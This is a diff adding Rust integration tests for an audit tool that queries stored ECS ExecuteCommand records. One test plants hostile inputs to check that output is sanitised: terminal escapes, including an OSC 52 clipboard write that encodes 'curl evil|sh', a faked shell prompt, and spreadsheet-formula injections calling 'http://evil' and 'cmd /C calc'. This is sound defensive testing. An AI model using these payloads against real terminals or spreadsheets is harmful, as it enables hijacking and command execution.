@@ -1,0 +1,372 @@
+//! The analysis engine through the real binary: SQL over the store, the shipped SQL examples,
+//! the same answers on 1 and 2 threads, damaged and older stores, hostile text at the output
+//! edge, and output piped into a reader that stops early.
+
+use std::io::Read;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::sync::OnceLock;
+
+use serde_json::Value;
+
+fn bin() -> Command {
+    let mut c = Command::new(env!("CARGO_BIN_EXE_execaudit"));
+    c.current_dir(env!("CARGO_MANIFEST_DIR"));
+    c.env_remove("EXECAUDIT_STORE");
+    c
+}
+
+fn run(args: &[&str]) -> Output {
+    bin().args(args).output().expect("binary runs")
+}
+
+fn stdout(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+fn stderr(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stderr).into_owned()
+}
+
+/// A store of the sample data, ingested once for the tests that only read it.
+fn sample_store() -> &'static str {
+    static STORE: OnceLock<(tempfile::TempDir, String)> = OnceLock::new();
+    &STORE
+        .get_or_init(|| {
+            let dir = tempfile::tempdir().unwrap();
+            let path = dir.path().join("store").to_str().unwrap().to_owned();
+            let o = run(&["ingest", "sample-data", "--store", &path]);
+            assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+            (dir, path)
+        })
+        .1
+}
+
+fn json(args: &[&str]) -> Value {
+    let o = run(args);
+    assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr(&o));
+    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", stdout(&o)))
+}
+
+#[test]
+fn query_answers_sql_over_tables_and_views() {
+    let store = sample_store();
+    let v = json(&[
+        "query",
+        "SELECT principal, count(*) AS sessions FROM sessions GROUP BY principal ORDER BY sessions DESC, principal",
+        "--store",
+        store,
+        "--format",
+        "json",
+    ]);
+    let rows = v.as_array().unwrap();
+    assert!(rows.len() > 3, "{v}");
+    let total: i64 = rows.iter().map(|r| r["sessions"].as_i64().unwrap()).sum();
+    assert_eq!(total, 20, "the sample week has 20 sessions");
+    // A join of a table and a view, with a filter.
+    let v = json(&[
+        "query",
+        "SELECT s.principal, c.command FROM commands AS c JOIN sessions AS s ON c.session_id = s.session_id WHERE c.command LIKE '%wget%'",
+        "--store",
+        store,
+        "--format",
+        "json",
+    ]);
+    assert_eq!(v[0]["principal"], "tom.lee@example.com");
+    // CSV and Parquet out.
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("s.parquet");
+    let o = run(&[
+        "query",
+        "SELECT session_id, start_time FROM sessions",
+        "--store",
+        store,
+        "--format",
+        "parquet",
+        "--out",
+        out.to_str().unwrap(),
+    ]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let df = polars::prelude::ParquetReader::new(std::fs::File::open(&out).unwrap());
+    use polars::prelude::SerReader;
+    assert_eq!(df.finish().unwrap().height(), 20);
+}
+
+#[test]
+fn the_shipped_sql_examples_run_over_the_sample() {
+    let store = sample_store();
+    let mut ran = 0;
+    for entry in std::fs::read_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("queries")).unwrap() {
+        let path = entry.unwrap().path();
+        if path.extension().is_none_or(|e| e != "sql") {
+            continue;
+        }
+        let v = json(&[
+            "query",
+            path.to_str().unwrap(),
+            "--store",
+            store,
+            "--format",
+            "json",
+        ]);
+        let rows = v.as_array().unwrap();
+        assert!(!rows.is_empty(), "{} answered nothing", path.display());
+        match path.file_name().unwrap().to_str().unwrap() {
+            "sessions-per-principal-per-week.sql" => {
+                let n: i64 = rows.iter().map(|r| r["sessions"].as_i64().unwrap()).sum();
+                assert_eq!(n, 20);
+                assert!(rows.iter().all(|r| r["iso_week"] == 47), "{v}");
+            }
+            "commands-in-a-container.sql" => {
+                assert!(rows
+                    .iter()
+                    .all(|r| r["cluster"] == "payments-prod" && r["container"] == "api"));
+            }
+            "sessions-without-a-transcript.sql" => {
+                assert!(rows.iter().all(|r| r["transcript_status"] != "present"));
+                assert!(
+                    rows.iter().any(|r| r["transcript_status"] == "missing"),
+                    "{v}"
+                );
+            }
+            other => panic!("{other}: add what it must answer to this test"),
+        }
+        ran += 1;
+    }
+    assert_eq!(ran, 3);
+}
+
+#[test]
+fn bad_sql_is_an_error_with_the_tables_and_nothing_on_stdout() {
+    let store = sample_store();
+    for sql in [
+        "SELEC principal FROM sessions",
+        "SELECT no_such_column FROM sessions",
+        "SELECT * FROM no_such_table",
+    ] {
+        let o = run(&["query", sql, "--store", store, "--format", "csv"]);
+        assert_eq!(o.status.code(), Some(2), "{sql}");
+        assert!(o.stdout.is_empty(), "{sql}: partial output {}", stdout(&o));
+        let e = stderr(&o);
+        assert!(
+            e.contains("tables and their columns:")
+                && e.contains("  sessions: session_id, start_time"),
+            "{e}"
+        );
+    }
+    let o = run(&[
+        "query",
+        "SELECT principal, cluster FROM sessions",
+        "--store",
+        store,
+    ]);
+    assert_eq!(o.status.code(), Some(2));
+    assert!(
+        stderr(&o).contains("quote it (\"cluster\")"),
+        "{}",
+        stderr(&o)
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("never.csv");
+    let o = run(&[
+        "query",
+        "SELECT nope FROM sessions",
+        "--store",
+        store,
+        "--out",
+        out.to_str().unwrap(),
+    ]);
+    assert_eq!(o.status.code(), Some(2));
+    assert!(!out.exists(), "no partial file");
+}
+
+#[test]
+fn answers_are_the_same_on_one_thread_and_two() {
+    let store = sample_store();
+    let out = |threads: &str, args: &[&str]| {
+        let o = bin()
+            .args(args)
+            .env("POLARS_MAX_THREADS", threads)
+            .env("RAYON_NUM_THREADS", threads)
+            .output()
+            .unwrap();
+        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr(&o));
+        o.stdout
+    };
+    for args in [
+        vec!["sessions", "--store", store, "--format", "jsonl"],
+        vec!["commands", "--store", store, "--format", "jsonl"],
+        vec!["search", "e", "--in-output", "--store", store, "--format", "jsonl"],
+        vec!["query", "SELECT principal, count(*) AS n, sum(commands) AS c FROM sessions GROUP BY principal ORDER BY principal", "--store", store, "--format", "csv"],
+        vec!["findings", "--store", store, "--format", "jsonl"],
+    ] {
+        assert_eq!(out("1", &args), out("2", &args), "{args:?}");
+    }
+}
+
+/// A copy of the sample store to damage.
+fn copy_store(to: &Path) -> PathBuf {
+    let from = Path::new(sample_store());
+    let dest = to.join("store");
+    for e in walkdir::WalkDir::new(from) {
+        let e = e.unwrap();
+        let rel = e.path().strip_prefix(from).unwrap();
+        let target = dest.join(rel);
+        if e.file_type().is_dir() {
+            std::fs::create_dir_all(&target).unwrap();
+        } else {
+            std::fs::copy(e.path(), &target).unwrap();
+        }
+    }
+    dest
+}
+
+#[test]
+fn a_damaged_part_is_named_and_the_other_parts_still_answer() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = copy_store(dir.path());
+    let s = store.to_str().unwrap();
+    let before = json(&["commands", "--store", s, "--format", "json"])
+        .as_array()
+        .unwrap()
+        .len();
+    // Cut one commands part in half.
+    let part = walkdir::WalkDir::new(store.join("commands"))
+        .into_iter()
+        .map(|e| e.unwrap().into_path())
+        .find(|p| p.extension().is_some_and(|e| e == "parquet"))
+        .unwrap();
+    let bytes = std::fs::read(&part).unwrap();
+    std::fs::write(&part, &bytes[..bytes.len() / 2]).unwrap();
+    let o = run(&["commands", "--store", s, "--format", "json"]);
+    assert_eq!(o.status.code(), Some(2), "a damaged part is an error");
+    assert!(
+        stderr(&o).contains(part.file_name().unwrap().to_str().unwrap()),
+        "{}",
+        stderr(&o)
+    );
+    let after: Value = serde_json::from_slice(&o.stdout).unwrap();
+    let n = after.as_array().unwrap().len();
+    assert!(
+        n > 0 && n < before,
+        "{n} of {before}: the other parts answered"
+    );
+    assert!(part.exists(), "nothing is deleted");
+    // Sessions do not read commands: unaffected, exit 0.
+    assert_eq!(run(&["sessions", "--store", s]).status.code(), Some(0));
+}
+
+#[test]
+fn a_store_written_before_manifests_still_answers() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = copy_store(dir.path());
+    std::fs::remove_file(store.join("manifest.json")).unwrap();
+    let s = store.to_str().unwrap();
+    let v = json(&["sessions", "--store", s, "--format", "json"]);
+    assert_eq!(v.as_array().unwrap().len(), 20);
+    // The next ingest adopts it: nothing lost, nothing doubled.
+    let o = run(&["ingest", "sample-data", "--store", s]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    assert!(store.join("manifest.json").exists());
+    assert_eq!(
+        json(&["sessions", "--store", s, "--format", "json"])
+            .as_array()
+            .unwrap()
+            .len(),
+        20
+    );
+}
+
+#[test]
+fn a_missing_store_is_an_error_not_an_empty_answer() {
+    for cmd in ["sessions", "commands", "attempts"] {
+        let o = run(&[cmd, "--store", "/nonexistent/execaudit-store"]);
+        assert_eq!(o.status.code(), Some(2), "{cmd}");
+        assert!(stderr(&o).contains("no store here"), "{}", stderr(&o));
+    }
+    let o = run(&[
+        "query",
+        "SELECT 1",
+        "--store",
+        "/nonexistent/execaudit-store",
+    ]);
+    assert_eq!(o.status.code(), Some(2));
+}
+
+#[test]
+fn piping_into_a_reader_that_stops_ends_quietly() {
+    let mut child = bin()
+        .args(["commands", "--store", sample_store(), "--format", "jsonl"])
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    // Read one byte, then hang up, as `head -c1` does.
+    let mut out = child.stdout.take().unwrap();
+    let mut one = [0u8; 1];
+    out.read_exact(&mut one).unwrap();
+    drop(out);
+    let status = child.wait().unwrap();
+    let mut err = String::new();
+    child
+        .stderr
+        .take()
+        .unwrap()
+        .read_to_string(&mut err)
+        .unwrap();
+    assert_eq!(status.code(), Some(0), "{err}");
+    assert!(!err.contains("Broken pipe"), "{err}");
+}
+
+#[test]
+fn hostile_text_reaches_no_output_raw() {
+    let dir = tempfile::tempdir().unwrap();
+    // A user agent and role session name that write the clipboard (OSC 52), retitle the
+    // window, clear the screen and fake a line; a command that opens as a spreadsheet formula.
+    let rec = r#"{"Records":[{"eventVersion":"1.09","userIdentity":{"type":"IAMUser","userName":"=HYPERLINK(\"http://evil\")"},"eventTime":"2024-05-15T08:00:00Z","eventSource":"ecs.amazonaws.com","eventName":"ExecuteCommand","awsRegion":"us-east-1","userAgent":"aws-cli\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b]0;pwned\u0007\u001b[2J\rroot@prod:~# \u009b31m","requestParameters":{"cluster":"c","task":"t","command":"@SUM(1+1)*cmd|' /C calc'!A0","interactive":true},"responseElements":{"session":{"sessionId":"ecs-execute-command-hostile0001"}},"eventID":"h1"}]}"#;
+    let path = dir.path().join("trail.json");
+    std::fs::write(&path, rec).unwrap();
+    let store = dir.path().join("st");
+    let (p, s) = (path.to_str().unwrap(), store.to_str().unwrap());
+    assert_eq!(run(&["ingest", p, "--store", s]).status.code(), Some(0));
+    let raw = |b: &[u8]| {
+        b.iter().any(|&c| c == 0x1b || c == 0x07 || c == 0x7f)
+            || String::from_utf8_lossy(b).contains('\u{9b}')
+    };
+    for args in [
+        vec!["show", "hostile0001", "--store", s],
+        vec!["sessions", "--store", s],
+        vec!["sessions", "--store", s, "--format", "csv"],
+        vec!["sessions", "--store", s, "--format", "json"],
+        vec!["sessions", "--store", s, "--format", "jsonl"],
+        vec![
+            "query",
+            "SELECT user_agent, principal FROM sessions",
+            "--store",
+            s,
+        ],
+        vec!["audit", p],
+    ] {
+        let o = run(&args);
+        assert!(
+            !raw(&o.stdout),
+            "{args:?} printed a raw control character: {}",
+            stdout(&o)
+        );
+        assert!(
+            !raw(&o.stderr),
+            "{args:?} warned with a raw control character"
+        );
+    }
+    let csv = stdout(&run(&["sessions", "--store", s, "--format", "csv"]));
+    assert!(
+        csv.contains("\"'=HYPERLINK(\"\"http://evil\"\")\""),
+        "{csv}"
+    );
+    assert!(csv.contains("\"'@SUM(1+1)*cmd|' /C calc'!A0\""), "{csv}");
+    let shown = stdout(&run(&["show", "hostile0001", "--store", s]));
+    assert!(
+        shown.contains("\\x1b]52;c;"),
+        "the escape is shown, harmlessly: {shown}"
+    );
+}
